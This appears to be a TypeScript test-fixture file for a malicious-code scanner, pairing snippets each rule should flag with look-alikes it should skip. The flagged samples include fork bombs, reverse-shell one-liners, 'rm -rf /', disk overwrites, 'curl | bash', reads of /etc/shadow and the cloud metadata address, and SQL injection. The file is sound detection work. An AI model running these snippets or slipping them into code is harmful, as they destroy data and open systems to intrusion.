/** Programs that a rule finds, and programs that look like them and are spared, in languages that are written alike. */
export interface RuleCases {
  languages: string[]
  found: string[]
  spared: string[]
  /** The rule looks into string literals, so that there it is found too. */
  inStrings?: true
}

const C = ['c', 'cpp']
const NODE = ['javascript', 'typescript']

/** By the rule's id. */
export const RULE_CASES: Record<string, RuleCases[]> = {
  'fork-bomb-shell': [
    {
      languages: ['bash'],
      found: [':(){ :|:& };:', 'f() { f | f & }'],
      spared: ['a | b & c | c', 'f() { f | sort & }'],
    },
  ],
  'fork-bomb-loop': [
    {
      languages: C,
      found: ['while (1) { fork(); }'],
      spared: ['while (1) { fork(); wait(0); }', 'while (1) { my_fork(); }', 'while (n) { fork(); }'],
    },
    { languages: ['python'], found: ['while True:\n    os.fork()'], spared: ['while True:\n    os.forked()'] },
    { languages: ['bash'], found: ['while true; do fork; done'], spared: ['while true; do fork; sleep 1; done'] },
  ],
  'fork-bomb-loop-spawn': [
    { languages: ['python'], found: ['while True:\n    Popen("x")'], spared: ['while True:\n    Popen("x").wait()'] },
    { languages: NODE, found: ['while (true) { spawn("x") }'], spared: ['while (true) { spawner("x") }'] },
    { languages: ['go'], found: ['for { c.Start() }'], spared: ['for { c.Start(); c.Wait() }', 'for { c.Started() }'] },
    {
      languages: ['rust'],
      found: ['loop { Command::new("x").spawn(); }'],
      spared: ['loop { Command::new("x").spawn().wait(); }', 'loop { Commands::new("x"); }'],
    },
    { languages: ['ruby'], found: ['loop do\n  spawn("x")\nend'], spared: ['loop do\n  spawned("x")\nend'] },
  ],
  'fork-bomb-goto': [
    { languages: C, found: ['a: fork(); goto a;'], spared: ['fork(); a: goto a;', 'fork_all(); goto a;'] },
    { languages: ['ruby'], found: ['fork while true'], spared: ['fork if true', 'forks while true'] },
  ],
  'fork-bomb-self': [{ languages: ['bash'], found: ['$0 & $0 &'], spared: ['echo $0 &', '$0 && $1'] }],
  'reverse-shell-device': [
    {
      languages: ['bash'],
      found: ['cat < /dev/tcp/10.0.0.1/80'],
      spared: ['ls /dev/tcp', 'cat /dev/tcps/1', 'cat < /dev/tcp/127.0.0.1/80', 'h=localhost; cat < /dev/tcp/$h/80'],
    },
  ],
  'reverse-shell-interactive': [
    { languages: ['bash'], found: ['bash -i >& x'], spared: ['bash -i x', 'dbash -i >& x'] },
  ],
  'reverse-shell-netcat': [
    {
      languages: ['bash'],
      found: ['nc 10.0.0.1 80 -e /bin/sh'],
      spared: ['nc 10.0.0.1 80', 'rsync nc 10.0.0.1 -e ssh'],
    },
  ],
  'reverse-shell-script': [
    { languages: ['bash'], found: ['perl -e "use Socket;"'], spared: ['perl -e "use Sockets;"', 'perl -e "print 1"'] },
  ],
  'reverse-shell-socket': [
    {
      languages: ['python'],
      found: ['s = socket.socket()\nos.dup2(s.fileno(), 0)\nos.execl("/bin/sh", "sh")'],
      spared: ['s = socket.socket()\nos.dup2(s.fileno(), 0)'],
    },
    {
      languages: C,
      found: ['s = socket(2, 1, 0); dup2(s, 0); execve("/bin/sh", a, e);'],
      spared: [
        's = socket(2, 1, 0); dup2(s, 0); execve("/bin/ls", a, e);',
        'web_socket(2); dup2(s, 0); puts("/bin/sh");',
      ],
    },
    {
      languages: ['ruby'],
      found: ['s = TCPSocket.new("h", 1)\n$stdin.reopen(s)\nexec "/bin/sh"'],
      spared: ['s = TCPSocket.new("h", 1)\nputs s.gets, "/bin/sh"'],
    },
    {
      languages: ['go'],
      found: ['c, _ := net.Dial("tcp", "h:1")\np := exec.Command("/bin/sh")\np.Stdin = c'],
      spared: ['c, _ := net.Dial("tcp", "h:1")\np := exec.Command("/bin/ls")\np.Stdin = c'],
    },
    {
      languages: ['rust'],
      found: ['let s = TcpStream::connect("h:1"); Command::new("/bin/sh").stdin(s);'],
      spared: ['let s = TcpStreams::open("h:1"); Command::new("/bin/sh").stdin(s);'],
    },
    {
      languages: NODE,
      found: ['const s = new net.Socket(); s.pipe(spawn("/bin/sh").stdin)'],
      spared: ['const s = new web.Socket(1); s.pipe(spawn("/bin/sh").stdin)'],
    },
  ],
  'network-scanner': [
    {
      languages: ['bash'],
      found: ['nmap 10.0.0.0/8', 'nc -z h 1'],
      spared: ['man nmap', 'nmapper 10.0.0.1', 'nc h 1', 'nmap -sV 127.0.0.1', 'nc -z localhost 1'],
    },
    { languages: ['python'], found: ['import nmap'], spared: ['import nmap_report', 'nmap = 1'] },
  ],
  'network-scanner-ports': [
    {
      languages: ['python'],
      found: ['for port in range(99):\n    s.connect((h, port))'],
      spared: [
        'for port in range(99):\n    print(port)',
        'for x in ports:\n    s.connect(x)',
        'for port in range(99):\n    s.connect(("127.0.0.1", port))',
      ],
    },
  ],
  cryptominer: [
    { languages: ['bash'], found: ['xmrig -o pool', 'nice minerd'], spared: ['xmrigs -o pool', 'miner'] },
    {
      languages: ['python', ...NODE, 'ruby'],
      found: ['pool = "stratum+tcp://h:1"'],
      spared: ['pool = "stratum of rock"', 'minerd = 1'],
      inStrings: true,
    },
  ],
  'destructive-remove': [
    {
      languages: ['bash'],
      found: ['rm -rf /', 'sudo rm -r -f /usr'],
      spared: ['rm -rf ./x', 'echo rm -rf /', 'form -rf /'],
    },
    { languages: ['python'], found: ['shutil.rmtree("/")'], spared: ['shutil.rmtree("/tmp/x")', 'my_rmtree("/")'] },
    { languages: NODE, found: ['fs.rmSync("/")'], spared: ['fs.rmSync("/tmp/x")', 'fs.rmSyncs("/")'] },
  ],
  'destructive-disk': [
    { languages: ['bash'], found: ['dd if=x of=/dev/sda'], spared: ['dd if=x of=disk.img', 'add if=x', 'ls /dev/sda'] },
  ],
  'sensitive-address': [
    {
      languages: ['python', ...NODE, ...C, 'go', 'ruby', 'rust', 'bash'],
      found: ['f("http://169.254.169.254/")'],
      spared: ['f("http://169.254.169.25/")', 'f("http://169.254.1.1/")'],
      inStrings: true,
    },
  ],
  'sensitive-file': [
    {
      languages: ['bash'],
      found: ['cat /etc/shadow', 'ls docker.sock'],
      spared: ['cat /etc/shadows', 'ls docker socks'],
      inStrings: true,
    },
    {
      languages: ['python', ...NODE, ...C, 'go', 'ruby', 'rust'],
      found: ['f("/etc/shadow")', 'f("/var/run/docker.sock")'],
      spared: ['f("/etc/shadows")', 'docker.sock(x)', 'f("/etc/hosts")'],
      inStrings: true,
    },
  ],
  'download-and-run': [
    {
      languages: ['bash'],
      found: ['curl -s h | bash'],
      spared: ['curl -s h | jq .', 'curls -s h | bash', 'curl -s h > bash'],
    },
  ],
  'python-os-system': [
    {
      languages: ['python'],
      found: ['os.system("ls")', 'os . popen(x)', 'from os import path, system'],
      spared: ['platform.system()', 'def system(x): pass', 'os.systems("ls")', 'chaos.system(x)'],
    },
  ],
  'python-eval': [
    {
      languages: ['python'],
      found: ['eval(x)', 'y = [eval (x)]', 'f"{eval(x)}"'],
      spared: ['model.eval()', 'my_eval(x)', 'evaluate(x)', 'def eval(x): pass', 'eval = 1'],
    },
  ],
  'python-exec': [
    { languages: ['python'], found: ['exec(x)'], spared: ['cursor.exec(x)', 'execute(x)', 'def exec(x): pass'] },
  ],
  'python-dynamic-import': [
    { languages: ['python'], found: ['__import__("os")'], spared: ['__import__("json")', 'my__import__("os")'] },
  ],
  'python-pty-spawn': [
    { languages: ['python'], found: ['pty.spawn("sh")'], spared: ['empty.spawn("sh")', 'spawn("sh")'] },
  ],
  'python-subprocess': [
    { languages: ['python'], found: ['import subprocess'], spared: ['import subprocesses', 'subprocess = 1'] },
  ],
  'python-process': [{ languages: ['python'], found: ['os.fork()'], spared: ['road.fork()', 'os.forks()'] }],
  'python-os-alias': [{ languages: ['python'], found: ['import os as o'], spared: ['import osm as o', 'import os'] }],
  'python-endless-loop': [
    {
      languages: ['python'],
      found: ['while True:\n    x()'],
      spared: ['while True:\n    break', 'while Trues:\n    x()', 'meanwhile = True'],
    },
  ],
  'python-sql-injection': [
    {
      languages: ['python'],
      found: ['c.execute("SELECT a FROM t WHERE b = " + d)', 'c.execute(f"SELECT a FROM t WHERE b = {d}")'],
      spared: ['c.execute("SELECT a FROM t WHERE b = ?", (d,))', 'print("SELECT " + d)', 'c.executes("a" + d)'],
    },
  ],
  'node-child-process': [
    {
      languages: NODE,
      found: ['require("child_process")', 'import { exec } from "node:child_process"'],
      spared: ['require("./child_processes")', 'const child_process = 1', 'my_require("child_process")'],
    },
  ],
  'node-eval': [
    { languages: NODE, found: ['eval(x)', '`${eval(x)}`'], spared: ['model.eval(x)', 'evaluate(x)', 'my_eval(x)'] },
  ],
  'node-function': [
    {
      languages: NODE,
      found: ['new Function("x")'],
      spared: ['new Functions("x")', 'function f() {}', 'x.Function = 1'],
    },
  ],
  'node-vm': [{ languages: NODE, found: ['require("vm")'], spared: ['require("vm2")', 'const vm = 1'] }],
  'node-timer-code': [
    { languages: NODE, found: ['setTimeout("x()", 1)'], spared: ['setTimeout(x, 1)', 'resetTimeout("x()", 1)'] },
  ],
  'node-endless-loop': [
    {
      languages: NODE,
      found: ['while (true) { x() }', 'for (;;) x()'],
      spared: ['while (true) { break }', 'for (;x;) y()', 'awhile (true)'],
    },
  ],
  'node-sql-injection': [
    {
      languages: NODE,
      found: ['db.query("SELECT a FROM t WHERE b = " + c)', 'db.query(`SELECT a FROM t WHERE b = ${c}`)'],
      spared: ['db.query("SELECT a FROM t WHERE b = ?", [c])', 'log("SELECT a" + c)', 'db.query("a" + c)'],
    },
  ],
  'ruby-system': [
    {
      languages: ['ruby'],
      found: ['system("ls")', 'system "ls"'],
      spared: ['a.system("ls")', 'systemd("ls")', 'def system(a) = 1'],
    },
  ],
  'ruby-exec': [{ languages: ['ruby'], found: ['exec("ls")'], spared: ['db.exec("ls")', 'execute("ls")'] }],
  'ruby-eval': [
    { languages: ['ruby'], found: ['eval(x)', 'eval x'], spared: ['a.eval(x)', 'evaluate(x)', 'eval = 1'] },
  ],
  'ruby-backticks': [
    {
      languages: ['ruby'],
      found: ['x = `ls`', 'x = %x(ls)', '"#{`ls`}"'],
      spared: ['x = :`', 'x = "ls"', 'x = %w(ls)'],
    },
  ],
  'ruby-process': [{ languages: ['ruby'], found: ['IO.popen("ls")'], spared: ['IO.read("ls")', 'BIO.popen("ls")'] }],
  'ruby-fork': [
    { languages: ['ruby'], found: ['fork { x }', 'Process.fork'], spared: ['a.fork { x }', 'forks { x }'] },
  ],
  'ruby-endless-loop': [
    { languages: ['ruby'], found: ['loop do\n  x\nend'], spared: ['loop do\n  break\nend', 'looped do\n  x\nend'] },
  ],
  'ruby-sql-injection': [
    {
      languages: ['ruby'],
      found: ['db.execute("SELECT a FROM t WHERE b = #{c}")'],
      spared: ['db.execute("SELECT a FROM t WHERE b = ?", c)', 'puts("SELECT #{c}")'],
    },
  ],
  'c-system': [
    {
      languages: C,
      found: ['system("ls");', 'popen(x, "r");'],
      spared: ['my_system("ls");', 'void system(int);', 'a.system(x);'],
    },
  ],
  'c-process': [{ languages: C, found: ['execl("/bin/ls", "ls", 0);'], spared: ['execute("ls");', 'int execl;'] }],
  'c-syscall': [{ languages: C, found: ['syscall(1);'], spared: ['my_syscall(1);', 'int syscall;'] }],
  'c-endless-loop': [
    { languages: C, found: ['for (;;) { x(); }'], spared: ['for (;;) { break; }', 'for (;x;) { y(); }', 'fort(;;)'] },
  ],
  'c-sql-injection': [
    {
      languages: C,
      found: ['sprintf(q, "SELECT a FROM t WHERE b = %s", c);'],
      spared: ['puts("SELECT a FROM t");', 'sprintf(q, "SELECT a FROM t");', 'my_sprintf(q, "SELECT %s", c);'],
    },
  ],
  'go-exec-command': [
    {
      languages: ['go'],
      found: ['exec.Command("ls")'],
      spared: ['execs.Command("ls")', 'exec.Commands("ls")', 'exec := 1'],
    },
  ],
  'go-syscall': [{ languages: ['go'], found: ['syscall.Kill(1, 9)'], spared: ['syscalls.Kill(1, 9)', 'syscall := 1'] }],
  'go-unsafe': [
    { languages: ['go'], found: ['unsafe.Pointer(x)'], spared: ['unsafely.Pointer(x)', 'unsafe.Sizeof(x)'] },
  ],
  'go-endless-loop': [
    {
      languages: ['go'],
      found: ['for { x() }'],
      spared: ['for { break }', 'for i := range x { y() }', 'forx { x() }'],
    },
  ],
  'go-sql-injection': [
    {
      languages: ['go'],
      found: ['db.Query("SELECT a FROM t WHERE b = " + c)'],
      spared: ['db.Query("SELECT a FROM t WHERE b = $1", c)', 'Println("SELECT " + c)'],
    },
  ],
  'rust-unsafe': [
    { languages: ['rust'], found: ['unsafe { x() }'], spared: ['unsafe_x { y() }', 'let a = is_unsafe;'] },
  ],
  'rust-command': [
    { languages: ['rust'], found: ['Command::new("ls")'], spared: ['Commands::new("ls")', 'Command::from(x)'] },
  ],
  'rust-syscall': [{ languages: ['rust'], found: ['libc::fork()'], spared: ['my_libc::fork()', 'let libc = 1;'] }],
  'rust-endless-loop': [
    { languages: ['rust'], found: ['loop { x(); }'], spared: ['loop { break; }', 'looped { x(); }'] },
  ],
  'rust-sql-injection': [
    {
      languages: ['rust'],
      found: ['format!("SELECT a FROM t WHERE b = {}", c)'],
      spared: ['format!("SELECTED {}", c)', 'println!("SELECT {}", c)', 'format!("SELECT a FROM t")'],
    },
  ],
  'bash-eval': [{ languages: ['bash'], found: ['eval "$x"'], spared: ['evaluate "$x"', 'eval=1', 'echo eval'] }],
  'bash-endless-loop': [
    {
      languages: ['bash'],
      found: ['while true; do x; done'],
      spared: ['while true; do break; done', 'while true_x; do x; done'],
    },
  ],
}
